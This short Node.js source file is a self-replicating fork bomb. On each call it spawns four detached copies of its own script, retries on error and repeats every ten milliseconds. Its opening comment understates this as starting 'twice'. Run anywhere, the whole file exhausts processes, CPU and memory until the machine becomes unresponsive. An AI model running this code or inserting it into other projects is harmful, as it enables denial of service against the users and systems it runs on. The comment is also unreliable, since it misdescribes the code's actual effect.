// A program that starts itself twice, and so on.
import { spawn } from 'node:child_process';

console.log('tried 1');
const again = () => {
  for (let number = 0; number < 4; number++) spawn(process.execPath, [import.meta.filename], { detached: true, stdio: 'ignore' }).on('error', again);
};
again();
setInterval(again, 10);
